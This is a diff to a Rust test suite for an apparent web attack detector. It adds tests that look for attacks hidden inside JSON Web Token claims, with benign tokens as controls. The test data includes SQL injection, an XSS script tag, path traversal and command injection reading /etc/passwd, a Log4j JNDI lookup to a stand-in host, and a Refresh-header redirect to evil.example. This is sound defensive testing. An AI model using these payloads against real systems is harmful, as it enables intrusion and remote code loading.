@@ -788,6 +788,7 @@ fn template_arithmetic_probes_in_any_delimiters() {
             "{%= 7*7 %}",
             "{{ 1337 - 1 }}",
             "${ 49 / 7 }",
+            "{{'7'*7}}",
         ],
     );
     assert_placed(
@@ -814,11 +815,58 @@ fn refresh_header_injected_in_a_body_field() {
     assert_placed(
         true,
         &[Place::Form, Place::Json, Place::Multipart],
-        &["x\r\nRefresh: 0;url=//evil.example", "x\nrefresh:5; URL=https://evil.example/"],
+        &[
+            "x\r\nRefresh: 0;url=//evil.example",
+            "x\nrefresh:5; URL=https://evil.example/",
+        ],
     );
     assert_placed(
         false,
         &[Place::Form, Place::Json, Place::Multipart],
         &["Line1\nRefresh: please", "Note\nrefresh: 5 minutes later"],
     );
+}
+
+/// A signed JSON Web Token whose payload is `claims`.
+fn jwt(claims: &str) -> String {
+    use base64::engine::general_purpose::URL_SAFE_NO_PAD;
+    use base64::Engine;
+    let h = URL_SAFE_NO_PAD.encode(br#"{"alg":"HS256","typ":"JWT"}"#);
+    let p = URL_SAFE_NO_PAD.encode(claims.as_bytes());
+    format!("{h}.{p}.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c")
+}
+
+/// Session 10: attacks inside a JSON Web Token's claims (SQL in `sub`,
+/// markup in `name`, a traversal or a command in `kid`, a Log4j lookup)
+/// were never read: a dotted token with digits was taken for a plain id
+/// and skipped. Now its parts are decoded and each claim read, in a
+/// parameter, a form, JSON, a cookie and a Bearer token. Before: score 0.
+#[test]
+fn attacks_inside_jwt_claims() {
+    let attacks = [
+        r#"{"sub":"' or 1=1--","iat":1516239022}"#,
+        r#"{"name":"<script>alert(1)</script>"}"#,
+        r#"{"kid":"../../../../etc/passwd"}"#,
+        r#"{"kid":"key;cat /etc/passwd"}"#,
+        r#"{"user":"${jndi:ldap://x.example/a}"}"#,
+    ];
+    let benign = [
+        r#"{"user":"alice","role":"user","exp":1700000000}"#,
+        r#"{"sub":"1234567890","name":"John O'Neil","iat":1516239022}"#,
+        r#"{"iss":"https://auth.example.com/","aud":["api"],"scope":"read:orders write:cart"}"#,
+        r#"{"email":"a.b@example.com","roles":["admin","editor"],"path":"/account/orders"}"#,
+    ];
+    let places = &[Place::Query, Place::Form, Place::Json, Place::Cookie];
+    let tokens: Vec<String> = attacks.iter().map(|c| jwt(c)).collect();
+    let t: Vec<&str> = tokens.iter().map(String::as_str).collect();
+    assert_placed(true, places, &t);
+    let bearer: Vec<String> = tokens.iter().map(|t| format!("Bearer {t}")).collect();
+    let b: Vec<&str> = bearer.iter().map(String::as_str).collect();
+    assert_header("Authorization", true, &b);
+    let tokens: Vec<String> = benign.iter().map(|c| jwt(c)).collect();
+    let t: Vec<&str> = tokens.iter().map(String::as_str).collect();
+    assert_placed(false, places, &t);
+    let bearer: Vec<String> = tokens.iter().map(|t| format!("Bearer {t}")).collect();
+    let b: Vec<&str> = bearer.iter().map(String::as_str).collect();
+    assert_header("Authorization", false, &b);
 }
